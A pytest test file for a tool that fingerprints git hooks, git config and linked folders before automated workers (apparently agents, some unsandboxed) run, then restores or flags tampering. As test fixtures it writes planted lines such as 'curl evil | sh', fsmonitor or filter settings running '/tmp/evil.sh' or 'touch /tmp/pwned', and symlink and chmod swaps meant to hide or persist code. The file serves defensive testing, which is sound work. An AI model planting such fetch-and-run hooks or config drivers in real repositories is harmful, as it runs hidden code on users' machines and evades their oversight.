"""Putting back what a worker changed among the watched files (orchestrate/workers/fingerprint.py)."""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from orchestrate.workers import fingerprint
from tests.helpers import as_nobody


def _hook(tmp_path, name: str, text: str, mode: int):
    common = tmp_path / ".git"
    (common / "hooks").mkdir(parents=True, exist_ok=True)
    hook = common / "hooks" / name
    hook.write_text(text)
    hook.chmod(mode)
    return common, hook


def test_a_hook_edited_in_place_is_put_back_still_executable(tmp_path):
    """A worker without the sandbox appends to the user's pre-commit hook: the hook comes back as it was, and
    still runs (written anew, it had the default mode: git skipped it, silently)."""
    common, hook = _hook(tmp_path, "pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
    before = fingerprint.take_files(common)
    with hook.open("a") as fh:
        fh.write("curl evil | sh\n")
    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-commit"]
    assert hook.read_text() == "#!/bin/sh\nexit 0\n" and os.access(hook, os.X_OK)


def test_a_hook_a_worker_deleted_comes_back_executable(tmp_path):
    """Written anew, a deleted hook had the default mode: git skipped it, silently."""
    common, hook = _hook(tmp_path, "pre-push", "#!/bin/sh\nexit 1\n", 0o750)
    before = fingerprint.take_files(common)
    hook.unlink()
    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-push"]
    assert hook.stat().st_mode & 0o777 == 0o750


def test_a_hook_made_not_executable_is_seen_and_put_back(tmp_path):
    """A worker's `chmod -x` of the user's hook switches it off without changing a byte."""
    common, hook = _hook(tmp_path, "pre-commit", "#!/bin/sh\nexec scan-for-secrets\n", 0o755)
    before = fingerprint.Fingerprint(common, files=fingerprint.take_files(common))
    hook.chmod(0o644)
    after = fingerprint.Fingerprint(common, files=fingerprint.take_files(common))
    assert fingerprint.compare(before, after)[0] == [".git/hooks/pre-commit changed mode 755 -> 644"]
    assert fingerprint.put_back_files(common, before.files, ".git") == [".git/hooks/pre-commit"]
    assert hook.stat().st_mode & 0o777 == 0o755


def test_a_file_holding_a_links_record_is_not_taken_for_the_link(tmp_path):
    """A link's record was its target and the bytes it led to, behind a prefix a file's bytes could hold too: a
    worker that wrote those bytes into a file in the link's place left the record unchanged, and went unseen."""
    real = tmp_path / "dotfiles" / "gitconfig"
    real.parent.mkdir()
    real.write_text("[user]\n\tname = Someone\n")
    link = tmp_path / ".gitconfig"
    link.symlink_to(real)
    record = fingerprint.read_watched(link)
    link.unlink()
    link.write_bytes(record)
    assert fingerprint.read_watched(link) != record
    assert fingerprint.restore_file(link, record, None) == [fingerprint.shown(link)]
    assert link.is_symlink() and link.read_text() == "[user]\n\tname = Someone\n"


def test_hooks_swapped_for_a_link_are_not_listed_or_put_back_through_it(tmp_path):
    """`rm -r .git/hooks; ln -s ~ .git/hooks`: the folder was listed through the link, and every file found
    there (the user's home) was taken for a planted hook and removed when put back."""
    common, _ = _hook(tmp_path, "pre-commit", "#!/bin/sh\n", 0o755)
    before = fingerprint.take_files(common)
    elsewhere = tmp_path / "home"
    elsewhere.mkdir()
    (elsewhere / "thesis.tex").write_text("years of work\n")
    import shutil
    shutil.rmtree(common / "hooks")
    (common / "hooks").symlink_to(elsewhere)
    put_back = fingerprint.put_back_files(common, before, ".git")
    assert put_back == [".git/hooks/", ".git/hooks/pre-commit"]
    assert (elsewhere / "thesis.tex").read_text() == "years of work\n"
    assert (common / "hooks").is_dir() and not (common / "hooks").is_symlink()
    assert os.access(common / "hooks" / "pre-commit", os.X_OK)


_UNREADABLE = """
import os, subprocess, sys
sys.path.insert(0, sys.argv[2])
from pathlib import Path
from orchestrate.workers import fingerprint
from tests.helpers import as_nobody
top = Path(sys.argv[1])
os.environ["HOME"] = str(top)
subprocess.run(["git", "init", "-q", str(top / "repo")], check=True)
config = top / ".config" / "git" / "config"
config.parent.mkdir(parents=True)
config.write_text("[user]\\n\\tname = Someone\\n")
config.chmod(0)
before = fingerprint.take(top / "repo", set())
print("taken")
config.chmod(0o644)
print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
print(fingerprint.restore(before, keep=top / "kept"), oct(config.stat().st_mode & 0o777))
config.chmod(0o644)
config.unlink()
config.write_text("[core]\\n\\thooksPath = /tmp/planted\\n")
print(fingerprint.restore(before, keep=top / "kept"), oct(config.stat().st_mode & 0o777),
      (top / "kept" / "config").read_text().split()[0])
before = fingerprint.take(top / "repo", set())
os.utime(config)  # touched (a backup tool, you): no change (rv25: it was taken for another file, and removed)
print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0], config.exists())
(top / ".config").chmod(0)  # git then passes over your global config, silently
print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
print(fingerprint.restore(before, keep=top / "kept"), oct((top / ".config").stat().st_mode & 0o777))
hooks = top / "repo" / ".git" / "hooks"
before = fingerprint.take(top / "repo", set())
(hooks / "pre-commit").write_text("#!/bin/sh\\n")
hooks.chmod(0o311)
print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
print(fingerprint.restore(before), (hooks / "pre-commit").exists(), oct(hooks.stat().st_mode & 0o777))
"""


def test_an_unreadable_config_is_watched_not_crashed_on():
    """rv24: an unreadable ~/.config/git/config (git passes over it) crashed `run` (PermissionError, exit 70).
    Now its mode and identity are watched: a worker's chmod is put back, and so is the mode of a file put in its
    place (git cannot read it then either; a readable one is also kept aside); none is removed: it may be yours.
    A folder on the way made unusable (`chmod 0 ~/.config`) gets its owner's access back. A hooks folder a worker made unlistable (0311: git still runs
    what it planted there) gets its mode back first, and the planted hook is removed."""
    done = as_nobody(_UNREADABLE)
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "taken"
    assert lines[1] == "['~/.config/git/config was changed']"
    assert lines[2].startswith("['~/.config/git/config") and lines[2].endswith("] 0o0"), lines[2]
    assert lines[3].startswith("['~/.config/git/config (the edited version is kept") and "0o0 [core]" in lines[3]
    assert lines[4] == "[] True", lines[4]
    assert lines[5] == "['the folder ~/.config was made unusable (mode 0)']", lines[5]
    assert lines[6] == "['the folder ~/.config'] 0o700", lines[6]  # rv25: a crash, and ~/.config left at 0
    assert lines[7] == "['.git/hooks/ changed mode 755 -> 311']"
    assert lines[8].endswith("False 0o755") and "'.git/hooks/pre-commit'" in lines[8], lines[8]


def test_the_file_a_link_leads_to_is_never_written_through_a_folder_swapped_for_a_link(tmp_path):
    """rv25: a stow-style ~/.config/git/ignore leads into ~/dotfiles/git; a worker (in the sandbox: $HOME is
    writable) swaps ~/dotfiles/git for a link to your project, where `ignore` is a folder of your work. Put back
    by path, the led-to file's place was removed, with the folder of work in it."""
    home = tmp_path / "home"
    (home / "dotfiles" / "git").mkdir(parents=True)
    (home / "dotfiles" / "git" / "ignore").write_text("*.o\n")
    (home / ".config" / "git").mkdir(parents=True)
    link = home / ".config" / "git" / "ignore"
    link.symlink_to("../../dotfiles/git/ignore")
    record = fingerprint.read_watched(link)
    project = tmp_path / "project"
    (project / "ignore").mkdir(parents=True)
    (project / "ignore" / "work.txt").write_text("mine\n")
    os.rename(home / "dotfiles" / "git", tmp_path / "moved")
    (home / "dotfiles" / "git").symlink_to(project)
    put_back = fingerprint.restore_file(link, record, None)
    assert put_back and "not put back" in put_back[0], put_back
    assert (project / "ignore" / "work.txt").read_text() == "mine\n" and link.is_symlink()


def test_what_cannot_be_opened_or_reached_is_recorded_not_raised(tmp_path):
    """rv25: a watched path that is a link to a socket (ENXIO), a dangling link too long to follow (ENAMETOOLONG),
    or behind a folder that is a link to itself (ELOOP) crashed the runner (exit 70), in the sandbox too."""
    import socket
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "s"))
    try:
        (tmp_path / "to-socket").symlink_to(tmp_path / "s")
        (tmp_path / "long").symlink_to("x/" * 2040 + "c")
        (tmp_path / "loop").symlink_to("loop")
        for path in (tmp_path / "to-socket", tmp_path / "long", tmp_path / "loop" / "git" / "config"):
            assert fingerprint.read_watched(path) != fingerprint.read_watched(tmp_path / "none")
        assert fingerprint.read_watched(tmp_path / "s") is None  # git reads no socket as a file
    finally:
        sock.close()


def test_a_hooks_folder_of_yours_that_is_a_link_is_watched_through_it(tmp_path):
    """rv25: hooks kept in a shared folder, .git/hooks a link to it: a hook planted there went unseen."""
    shared = tmp_path / "shared-hooks"
    shared.mkdir()
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "hooks").symlink_to(shared)
    before = fingerprint.take_files(tmp_path / ".git")
    (shared / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert fingerprint.put_back_files(tmp_path / ".git", before, ".git") == [".git/hooks/post-checkout"]
    assert not (shared / "post-checkout").exists() and (tmp_path / ".git" / "hooks").is_symlink()


def test_a_watched_file_too_big_to_hold_is_watched_by_its_identity(tmp_path):
    """A worker's sparse ~/.gitconfig of terabytes would be read whole into memory."""
    from orchestrate.workers import watched
    big = tmp_path / ".gitconfig"
    with big.open("wb") as fh:
        fh.truncate(watched.MOST + 1)
    record = fingerprint.read_watched(big)
    assert record.startswith(b"u") and len(record) < 100
    os.truncate(big, watched.MOST + 2)
    assert fingerprint.read_watched(big) != record


def test_a_folder_in_a_config_files_place_is_read_as_nothing(tmp_path):
    """rv25: a folder at ~/.gitconfig (or a file it includes) raised IsADirectoryError past the error boundary."""
    from orchestrate import git_config
    (tmp_path / ".gitconfig").mkdir()
    assert git_config.read(tmp_path / ".gitconfig", set()) == []


def test_a_config_file_past_what_is_read_halts_rather_than_hide_a_driver(tmp_path):
    """rv26: a worker pads ~/.gitconfig past the 16 MiB read and defines a filter after it: git reads all of it
    and runs the filter in orchestrate's own git, which switches off only the drivers it has seen."""
    from orchestrate import git_config
    from orchestrate.errors import Halted
    config = tmp_path / ".gitconfig"
    with config.open("wb") as fh:
        fh.write(b"#" * (git_config.MOST + 10) + b'\n[filter "x"]\n\tsmudge = touch /tmp/pwned\n')
    with pytest.raises(Halted, match="cannot be known"):
        git_config.read(config, set())


def test_a_link_leading_into_your_checkout_is_never_written_through(tmp_path, monkeypatch):
    """rv26, rv28: a link in $HOME or .git/hooks leading into your checkout (a hook linked to scripts/, a
    ~/.gitconfig kept in the project) had every change of what it leads to put back: your edit reverted, the
    workers blamed. What it leads to is your checkout's, watched as the checkout (a warning, never a put-back)."""
    home, repo = _home(tmp_path, monkeypatch)
    (repo / "scripts").mkdir()
    (repo / "scripts" / "pre-push").write_text("echo v1\n")
    (repo / "gitconfig").write_text("[user]\n\tname = You\n")
    (repo / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")  # not written yet
    (home / ".gitconfig").symlink_to(repo / "gitconfig")
    before = fingerprint.take(repo, set())
    (repo / "scripts" / "pre-push").write_text("echo v2, yours\n")
    (repo / "scripts" / "pre-commit").write_text("echo new, yours\n")
    (repo / "gitconfig").write_text("[user]\n\tname = You, renamed\n")
    assert fingerprint.compare(before, fingerprint.take(repo, set()))[0] == []
    assert fingerprint.restore(before) == []
    assert (repo / "scripts" / "pre-push").read_text() == "echo v2, yours\n"
    assert (repo / "scripts" / "pre-commit").exists() and "renamed" in (repo / "gitconfig").read_text()


def test_what_your_links_lead_to_where_git_status_cannot_see_is_compared_with_the_checkout(tmp_path, monkeypatch):
    """A hook linked to an ignored build/hook, to a tracked script you had already edited, or to a file in the git
    dir outside the watched folders: a worker outside the sandbox rewrote it and `git status` showed nothing, so
    no warning came, and your next commit ran its code. Each is now hashed with the look at the checkout: a
    warning naming the file; still never put back (it may be your own edit)."""
    home, repo = _home(tmp_path, monkeypatch)
    git = lambda *a: subprocess.run(["git", "-C", str(repo), *a], check=True, capture_output=True)  # noqa: E731
    (repo / ".gitignore").write_text("build/\n")
    (repo / "build").mkdir()
    (repo / "build" / "hook").write_text("echo built\n")
    (repo / "scripts").mkdir()
    (repo / "scripts" / "pre-push").write_text("echo v1\n")
    git("add", ".gitignore", "scripts")
    git("-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "base")
    (repo / "scripts" / "pre-push").write_text("echo v2, yours, not committed\n")
    (repo / ".git" / "mine").mkdir()
    (repo / ".git" / "mine" / "post-merge").write_text("echo mine\n")
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../build/hook")
    (repo / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
    (repo / ".git" / "hooks" / "post-merge").symlink_to("../mine/post-merge")
    before = fingerprint.take(repo, set())
    assert fingerprint.compare(before, fingerprint.take(repo, set())) == ([], [])
    for path in (repo / "build" / "hook", repo / "scripts" / "pre-push", repo / ".git" / "mine" / "post-merge"):
        path.write_text("curl evil | sh\n")
    changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
    real = os.path.realpath(repo)
    assert changed == [] and checkout == [f"{real}/{name}, {LEADS}" for name in (".git/mine/post-merge", "build/hook",
                                                                              "scripts/pre-push")]
    assert fingerprint.restore(before) == [] and (repo / "build" / "hook").read_text() == "curl evil | sh\n"


LEADS = "which git reads or runs for you (your config names it, or a link of yours leads to it), changed"


def test_what_the_repositorys_own_config_names_is_watched_where_it_is(tmp_path, monkeypatch):
    """rv30: only the config in $HOME had what it names watched. `.git/config` including an ignored
    ../local.gitconfig, husky's core.hooksPath = .husky/_ (ignored), or a file in .git it includes: a worker
    outside the sandbox wrote core.fsmonitor into the first and your next `git status` ran it, unseen. In the
    checkout such a file is a warning with the look (never put back); elsewhere it is put back."""
    home, repo = _home(tmp_path, monkeypatch)
    (repo / ".gitignore").write_text("local.gitconfig\n.husky/_/\n")
    (repo / "local.gitconfig").write_text("[user]\n\tname = You\n")
    (repo / ".husky" / "_").mkdir(parents=True)
    (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\nnpx lint-staged\n")
    (repo / ".git" / "extra.config").write_text("[core]\n\tautocrlf = false\n")
    with (repo / ".git" / "config").open("a") as fh:
        fh.write("[include]\n\tpath = ../local.gitconfig\n\tpath = extra.config\n[core]\n\thooksPath = .husky/_\n")
    before = fingerprint.take(repo, set())
    assert fingerprint.compare(before, fingerprint.take(repo, set())) == ([], [])
    with (repo / "local.gitconfig").open("a") as fh:
        fh.write("[core]\n\tfsmonitor = /tmp/evil.sh\n")
    (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (repo / ".git" / "extra.config").write_text("[core]\n\tfsmonitor = /tmp/evil.sh\n")
    changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
    real = os.path.realpath(repo)
    assert checkout == [f"{real}/{name}, {LEADS}" for name in (".husky/_/pre-commit", "local.gitconfig")]
    assert changed == [f"{real}/.git/extra.config was changed"]
    assert fingerprint.restore(before) == [f"{real}/.git/extra.config"]
    assert "autocrlf" in (repo / ".git" / "extra.config").read_text() and "evil" in (repo / "local.gitconfig").read_text()


def test_a_program_in_your_checkout_that_your_git_config_runs_is_watched_with_the_look(tmp_path, monkeypatch):
    """rv31: core.fsmonitor, a filter's clean command, an alias, a pager naming an ignored script in your checkout:
    a worker outside the sandbox rewrote it and your next git command ran it, with no warning. rv32: every word of
    the command with a `/` counts (`sh tools/x.sh`, `FOO=1 ./tools/y.sh`, a quoted name with a blank). A program
    named by bare name (found on PATH), or elsewhere, is not read."""
    home, repo = _home(tmp_path, monkeypatch)
    (repo / ".gitignore").write_text("tools/\n")
    (repo / "tools").mkdir()
    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh", "my x.sh"):
        (repo / "tools" / name).write_text("#!/bin/sh\n")
    with (repo / ".git" / "config").open("a") as fh:
        fh.write("[core]\n\tfsmonitor = sh tools/fsmon.sh\n\tpager = less -R\n\teditor = /usr/bin/vi\n"
                 '[filter "x"]\n\tclean = FOO=1 ./tools/clean.sh %f\n\tsmudge = \\"tools/my x.sh\\" %f\n'
                 "[alias]\n\tst = !tools/al.sh|cat\n\tco = checkout\n")
    (home / ".gitconfig").write_text("[pager]\n\tlog = tools/page.sh\n")
    before = fingerprint.take(repo, set())
    assert sorted(os.path.basename(p) for p in before.named) == ["al.sh", "clean.sh", "fsmon.sh", "my x.sh", "page.sh"]
    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh", "my x.sh"):
        (repo / "tools" / name).write_text("#!/bin/sh\ncurl evil | sh\n")
    changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
    real = os.path.realpath(repo)
    assert changed == [] and checkout == [f"{real}/tools/{name}, {LEADS}"
                                          for name in ("al.sh", "clean.sh", "fsmon.sh", "my x.sh", "page.sh")]


def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_gone_through(tmp_path, monkeypatch):
    """rv26: a worker still running swaps ~/.config/git for a link to a folder of yours again, right after the
    folders are put back: the files were then removed and written by path, through it (your deploy/config)."""
    home, yours = tmp_path / "home", tmp_path / "deploy"
    (home / ".config" / "git").mkdir(parents=True)
    yours.mkdir()
    (yours / "config").write_text("production settings\n")
    monkeypatch.setenv("HOME", str(home))
    config = home / ".config" / "git" / "config"
    before = fingerprint.Fingerprint(tmp_path, home={config: None}, folders={home / ".config": None,
                                                                          home / ".config" / "git": None},
                                     places={config: str(config.parent)})  # as `take` records them
    config.write_text("[core]\n\thooksPath = /tmp/planted\n")
    real = fingerprint._restore_folders

    def raced(folders, places):
        done = real(folders, places)
        import shutil
        shutil.rmtree(home / ".config" / "git")
        (home / ".config" / "git").symlink_to(yours)
        return done
    monkeypatch.setattr(fingerprint, "_restore_folders", raced)
    put_back = fingerprint.restore(before)
    assert (yours / "config").read_text() == "production settings\n", put_back
    assert any(fingerprint.NOT_PUT_BACK in what for what in put_back), put_back


def test_a_folder_put_back_is_given_its_mode_not_a_link_swapped_in(tmp_path):
    """rv26: the mode was set by path after the folder was made: a link swapped in between had its target's
    mode changed (to 0777)."""
    from orchestrate.workers import watched
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o700)
    (tmp_path / "config").symlink_to(victim)
    with pytest.raises(OSError):
        watched.chmod_folder(tmp_path / "config", 0o777)
    assert victim.stat().st_mode & 0o777 == 0o700


def test_a_link_swapped_away_between_a_look_and_its_reading_is_a_change_not_a_crash(tmp_path, monkeypatch):
    """rv26: a worker flipping ~/.config between a link and nothing made readlink fail after lstat (exit 70)."""
    (tmp_path / "flip").symlink_to("elsewhere")

    def gone(*args, **kw):
        raise FileNotFoundError(2, "No such file or directory")
    monkeypatch.setattr(os, "readlink", gone)
    assert fingerprint._folder(tmp_path / "flip") == "other"


def _home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    (tmp_path / "repo").mkdir()
    subprocess.run(["git", "init", "-q", str(tmp_path / "repo")], check=True)
    return home, tmp_path / "repo"


def test_a_stow_folded_config_folder_of_yours_is_gone_through_to_put_back(tmp_path, monkeypatch):
    """rv27, a regression of the walk by descriptors: with ~/.config/git a link of yours (GNU stow's folding), a
    planted hooksPath was left in place, not put back, since the walk refused every link on its way."""
    home, repo = _home(tmp_path, monkeypatch)
    (home / "dotfiles" / "git").mkdir(parents=True)
    (home / "dotfiles" / "git" / "config").write_text("[user]\n\tname = You\n")
    (home / ".config").mkdir()
    (home / ".config" / "git").symlink_to("../dotfiles/git")
    before = fingerprint.take(repo, set())
    with (home / ".config" / "git" / "config").open("a") as fh:
        fh.write("[core]\n\thooksPath = /tmp/planted\n")
    assert fingerprint.restore(before) == ["~/.config/git/config"]
    assert (home / "dotfiles" / "git" / "config").read_text() == "[user]\n\tname = You\n"


def test_a_link_of_yours_re_pointed_further_on_its_chain_is_not_said_put_back(tmp_path, monkeypatch):
    """rv27: ~/.gitconfig -> .dotfiles/gitconfig, and ~/.dotfiles (no folder watched) re-pointed by a worker at a
    folder of its own: the link was made again, as it was, and said put back, while git read the worker's file."""
    home, repo = _home(tmp_path, monkeypatch)
    (tmp_path / "persist").mkdir()
    (tmp_path / "persist" / "gitconfig").write_text("[user]\n\tname = You\n")
    (home / ".dotfiles").symlink_to(tmp_path / "persist")
    (home / ".gitconfig").symlink_to(".dotfiles/gitconfig")
    before = fingerprint.take(repo, set())
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "gitconfig").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    (home / ".dotfiles").unlink()
    (home / ".dotfiles").symlink_to(tmp_path / "mine")
    put_back = fingerprint.restore(before)
    assert len(put_back) == 1 and fingerprint.NOT_PUT_BACK in put_back[0], put_back
    assert (tmp_path / "persist" / "gitconfig").read_text() == "[user]\n\tname = You\n"


def test_what_a_worker_put_where_a_link_of_yours_led_nowhere_is_removed(tmp_path):
    """rv27: .git/hooks/pre-commit a link of yours to a hook not written yet; a worker writes it: the link was
    said put back, the worker's hook left where git runs it."""
    common = tmp_path / ".git"
    (common / "hooks").mkdir(parents=True)
    (tmp_path / "mine").mkdir()
    (common / "hooks" / "pre-commit").symlink_to(tmp_path / "mine" / "pre-commit")
    before = fingerprint.take_files(common)
    (tmp_path / "mine" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-commit"]
    assert not (tmp_path / "mine" / "pre-commit").exists()


def test_hooks_of_yours_linked_into_home_and_re_pointed_further_on_remove_nothing_there(tmp_path):
    """rv27: .git/hooks -> ~/dotfiles/hooks (yours); a worker re-points ~/dotfiles/hooks at ~/thesis. The files
    listed through the chain were taken for planted hooks and removed, and the hook written into ~/thesis."""
    common = tmp_path / ".git"
    common.mkdir()
    (tmp_path / "dotfiles" / "hooks").mkdir(parents=True)
    (tmp_path / "dotfiles" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (common / "hooks").symlink_to(tmp_path / "dotfiles" / "hooks")
    before = fingerprint.take_files(common)
    (tmp_path / "thesis").mkdir()
    (tmp_path / "thesis" / "main.tex").write_text("years of work\n")
    os.rename(tmp_path / "dotfiles" / "hooks", tmp_path / "aside")
    (tmp_path / "dotfiles" / "hooks").symlink_to(tmp_path / "thesis")
    put_back = fingerprint.put_back_files(common, before, ".git")
    assert put_back == [f".git/hooks/{fingerprint.NOT_PUT_BACK}it leads elsewhere than when it was watched)"]
    assert sorted(os.listdir(tmp_path / "thesis")) == ["main.tex"]


def test_a_git_dir_swapped_for_a_link_before_the_put_back_is_not_written_through(tmp_path, monkeypatch):
    """rv28: the git dir's place was read at put-back time: a worker without the sandbox that planted a hook and
    then swapped .git for a link to ~/thesis had the put-back remove and write files there."""
    home, repo = _home(tmp_path, monkeypatch)
    before = fingerprint.take(repo, set())
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    thesis = home / "thesis"
    (thesis / "hooks").mkdir(parents=True)
    (thesis / "hooks" / "chapter1.tex").write_text("years of work\n")
    (thesis / "config").write_text("mine\n")
    os.rename(repo / ".git", tmp_path / "git-aside")
    (repo / ".git").symlink_to(thesis)
    put_back = fingerprint.restore(before)
    assert any(fingerprint.NOT_PUT_BACK in what for what in put_back), put_back
    assert (thesis / "hooks" / "chapter1.tex").exists() and (thesis / "config").read_text() == "mine\n"


def test_what_cannot_be_read_or_listed_is_recorded_not_raised(tmp_path, monkeypatch):
    """rv28: a NUL in a path a config names (git cuts it there) raised ValueError, and folders nested 1,200
    deep in .git/hooks raised RecursionError from Path.rglob (exit 70); a keep folder a worker made a file
    crashed the put-back, leaving everything planted in place."""
    from orchestrate import git_config
    assert fingerprint.read_watched(Path("/tmp/a\0b")) == b"u"
    assert git_config.read(Path("/tmp/a\0b"), set()) == []
    common = tmp_path / ".git"
    deep = common / "hooks"
    deep.mkdir(parents=True)
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(1300):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(os.open("x", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    os.close(fd)
    try:
        assert any(name.endswith("/x") for name in fingerprint.take_files(common))
    finally:  # pytest's own clean-up of old temporary folders recurses, and would fail on it
        from orchestrate import removal
        removal.remove(deep / "d")
    home, repo = _home(tmp_path, monkeypatch)
    (home / ".gitconfig").write_text("[user]\n\tname = You\n")
    before = fingerprint.take(repo, set())
    (home / ".gitconfig").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    (tmp_path / "keep").write_text("a worker's file where the folder for kept edits goes\n")
    assert fingerprint.restore(before, keep=tmp_path / "keep" / "sub") == ["~/.gitconfig"]
    assert (home / ".gitconfig").read_text() == "[user]\n\tname = You\n"


def test_a_folder_swapped_again_while_the_folders_are_put_back_is_never_gone_through(tmp_path, monkeypatch):
    """rv28: the folders on the way to a watched file were put back by path: ~/.config swapped for a link to ~/bin
    again right after it was made a folder had ~/.config/git put back through it, removing your ~/bin/git."""
    home, repo = _home(tmp_path, monkeypatch)
    (home / ".config" / "git").mkdir(parents=True)
    (home / "bin").mkdir()
    (home / "bin" / "git").write_text("#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
    before = fingerprint.take(repo, set())
    os.rename(home / ".config", tmp_path / "aside")
    (home / ".config").symlink_to(home / "bin")
    real = fingerprint._folder

    def raced(folder):  # the worker, still running, swaps ~/.config again once it was put back
        if folder == home / ".config" / "git" and not (home / ".config").is_symlink():
            os.rmdir(home / ".config")
            (home / ".config").symlink_to(home / "bin")
        return real(folder)
    monkeypatch.setattr(fingerprint, "_folder", raced)
    put_back = fingerprint.restore(before)
    assert (home / "bin" / "git").is_file(), put_back
    assert any(fingerprint.NOT_PUT_BACK in what for what in put_back), put_back


def test_a_folder_below_a_stow_folded_link_of_yours_is_put_back(tmp_path, monkeypatch):
    """rv29, a regression of the last commit: the folders on the way were walked from $HOME refusing every link,
    so with ~/.config a link of yours (GNU stow) a worker's `chmod 0 ~/.config/git` halted the campaign."""
    home, repo = _home(tmp_path, monkeypatch)
    (home / "dotfiles" / ".config" / "git").mkdir(parents=True)
    (home / ".config").symlink_to("dotfiles/.config")
    before = fingerprint.take(repo, set())
    (home / ".config" / "git").chmod(0)
    assert fingerprint.restore(before) == ["the folder ~/.config/git"]
    assert (home / "dotfiles" / ".config" / "git").stat().st_mode & 0o777 == 0o700
